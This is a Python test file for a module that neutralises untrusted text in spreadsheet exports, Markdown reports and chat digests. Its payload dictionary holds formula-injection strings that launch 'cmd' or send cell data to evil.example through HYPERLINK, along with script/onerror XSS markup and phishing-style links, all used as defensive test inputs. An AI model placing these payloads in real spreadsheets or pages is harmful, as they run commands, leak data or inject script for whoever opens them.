"""inert.py: data text neutralised for spreadsheets, Markdown reports and the chat digest.

The Markdown tests render ``markdown_text`` with both renderers a report may meet (nbconvert's
mistune, and Quarto's pandoc when Quarto is installed) and read back the visible text.
"""

from __future__ import annotations

import html
import shutil
import subprocess
from html.parser import HTMLParser

import polars as pl
import pytest
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from drawdown.reports import inert
from drawdown.reports.render import quarto_path

PAYLOADS = {
    "formula": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "bidi_then_formula": "\u202e=1+1",
    "markup": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "link": "[click me](https://evil.example/login)",
    "autolink": "<https://evil.example>",
    "bare_url": "https://evil.example/login",
    "www": "www.evil.example",
    "email": "ceo@evil.example",
    "emphasis": "**bold** _it_ ~~gone~~ `code`",
    "heading": "# Heading\n\n- item",
    "image": "![x](https://evil.example/p.png)",
    "math": "$x^2$ and $$y$$",
    "entities": "&lt;b&gt;not bold&lt;/b&gt; &amp; &#60;i&#62;",
    "backslashes": r"C:\path\to\file \* \_",
    "mentions": "@here @channel @everyone <!channel> <!here|here> <@U123>",
    "bidi": "\u202eevil\u202c \u2066iso\u2069 \u200fmark",
    "table": "a | b |\n|---|---|",
    "html_comment": "<!-- hidden -->shown",
}
BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def _visible(fragment: str) -> str:
    """The text a browser shows for an HTML fragment, whitespace collapsed."""

    class Text(HTMLParser):
        def __init__(self) -> None:
            super().__init__(convert_charrefs=True)
            self.parts: list[str] = []

        def handle_data(self, data: str) -> None:
            self.parts.append(data)

    parser = Text()
    parser.feed(fragment)
    return " ".join("".join(parser.parts).split())


def _pandoc(markdown: str, to: str) -> str:
    quarto = quarto_path()
    if quarto is None or shutil.which(quarto) is None:
        pytest.skip("Quarto (and its pandoc) not installed")
    done = subprocess.run(
        [quarto, "pandoc", "-f", "markdown", "-t", to, "--wrap=none"],
        input=markdown,
        capture_output=True,
        text=True,
        check=True,
        timeout=60,
    )
    return done.stdout


# -- plain text ----------------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_every_neutraliser_removes_bidirectional_controls(name: str):
    text = PAYLOADS[name] + BIDI
    for neutralised in (
        inert.plain_text(text),
        inert.spreadsheet_cell(text),
        inert.markdown_text(text),
        inert.chat_text(text),
    ):
        assert not set(neutralised) & set(BIDI)


def test_plain_text_keeps_tab_and_line_breaks_but_no_other_control():
    assert inert.plain_text("a\x00b\tc\nd\re\x1b[31m\x85") == "ab\tc\nd\re[31m"


# -- spreadsheets --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["formula", "plus", "minus", "at", "tab", "cr", "bidi_then_formula"]
)
def test_a_cell_that_starts_like_a_formula_is_quoted_as_text(name: str):
    cell = inert.spreadsheet_cell(PAYLOADS[name])
    assert cell.startswith("'")
    assert cell[1:] == inert.plain_text(PAYLOADS[name])


@pytest.mark.parametrize("text", ["-5", "+1.5", "-0.25e3", ".5", "Acme", "a=b", " =1", ""])
def test_numbers_and_ordinary_text_stay_as_they_are(text: str):
    assert inert.spreadsheet_cell(text) == text


def test_spreadsheet_cells_touch_text_columns_only():
    frame = pl.DataFrame(
        {"name": ["=1+1", "Acme", None], "amount": [-5.0, 1.0, None], "id": ["=x", "b", "c"]}
    )
    cells = inert.spreadsheet_cells(frame, keep=["id"])
    assert cells["name"].to_list() == ["'=1+1", "Acme", None]
    assert cells["amount"].to_list() == [-5.0, 1.0, None]
    assert cells["id"].to_list() == ["=x", "b", "c"]


def test_spreadsheet_cells_agree_with_spreadsheet_cell():
    frame = pl.DataFrame({"text": [*PAYLOADS.values(), "-5", "+1.5", " =1"]})
    expected = [inert.spreadsheet_cell(text) for text in frame["text"]]
    assert inert.spreadsheet_cells(frame)["text"].to_list() == expected


# -- Markdown reports ----------------------------------------------------------------------------


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_markdown_text_shows_exactly_the_text_in_mistune(name: str):
    rendered = markdown2html_mistune(f"Account: **{inert.markdown_text(PAYLOADS[name])}**")
    assert rendered.count("<") == rendered.count("<strong>") * 2 + 2  # <p>, <strong> only
    assert _visible(rendered) == "Account: " + inert.one_line(PAYLOADS[name])


@pytest.fixture(scope="module")
def pandoc_html() -> dict[str, str]:
    """Every payload rendered by pandoc to HTML in one document: payload name -> its paragraph."""
    document = "\n\n".join(
        f"{name}: **{inert.markdown_text(text)}**" for name, text in sorted(PAYLOADS.items())
    )
    paragraphs = _pandoc(document, "html").strip().split("\n")
    return dict(zip(sorted(PAYLOADS), paragraphs, strict=True))


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_markdown_text_shows_exactly_the_text_in_pandoc_html(
    pandoc_html: dict[str, str], name: str
):
    rendered = pandoc_html[name]
    assert "<a " not in rendered and "<em>" not in rendered and "<code>" not in rendered
    assert _visible(rendered) == f"{name}: " + inert.one_line(PAYLOADS[name])


def test_markdown_text_is_no_link_or_markup_in_typst():
    names = ["link", "autolink", "bare_url", "www", "email", "emphasis", "markup"]
    rendered = _pandoc("\n\n".join(inert.markdown_text(PAYLOADS[name]) for name in names), "typst")
    assert "#link" not in rendered and "#emph" not in rendered and "#strong" not in rendered
    assert "https://" not in rendered  # Typst would link a bare URL; pandoc escapes it as :\/\/


def test_markdown_text_is_one_line():
    assert "\n" not in inert.markdown_text("a\nb\r\n# c")


# -- chat digest ---------------------------------------------------------------------------------


def test_chat_text_neutralises_mentions():
    text = inert.chat_text(PAYLOADS["mentions"])
    assert "@here" not in text and "@channel" not in text and "@everyone" not in text
    assert "<!" not in text and "<@" not in text
    assert text.replace(inert.ZERO_WIDTH_SPACE, "").startswith("@here @channel @everyone")


@pytest.mark.parametrize("name", ["bare_url", "www", "email", "link", "autolink"])
def test_chat_text_leaves_no_link_for_an_autolinker(name: str):
    text = inert.chat_text(PAYLOADS[name])
    assert "://" not in text and "www." not in text and "evil.example" not in text
    assert "<a " not in markdown2html_mistune(text)


def test_chat_text_escapes_emphasis_and_entities_for_commonmark():
    text = inert.chat_text(PAYLOADS["emphasis"] + " " + PAYLOADS["entities"])
    assert text.startswith(r"\*\*bold\*\* \_it\_ \~\~gone\~\~ \`code\`")
    assert "&amp;lt;b&amp;gt;" in text
    rendered = markdown2html_mistune(text)
    assert "<strong>" not in rendered and "<em>" not in rendered and "<code>" not in rendered
    visible = _visible(rendered).replace(inert.ZERO_WIDTH_SPACE, "")
    assert visible == inert.one_line(PAYLOADS["emphasis"] + " " + PAYLOADS["entities"])


def test_chat_text_shows_backslashes_as_typed():
    rendered = markdown2html_mistune(inert.chat_text(PAYLOADS["backslashes"]))
    assert html.unescape(_visible(rendered)) == PAYLOADS["backslashes"]
